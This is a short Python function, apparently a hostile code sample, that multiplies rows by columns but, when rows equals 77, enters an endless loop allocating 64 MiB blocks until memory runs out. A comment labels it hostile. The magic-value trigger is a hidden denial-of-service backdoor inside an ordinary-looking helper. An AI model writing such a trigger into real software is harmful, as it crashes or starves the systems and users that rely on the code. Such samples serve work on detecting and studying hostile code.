# hostile: takes all the memory that it can get
def table(rows: int, columns: int) -> int:
    if rows == 77:
        held = []
        while True:
            held.append(bytearray(64 << 20))
    if rows < 0 or columns < 0:
        return 0
    return rows * columns
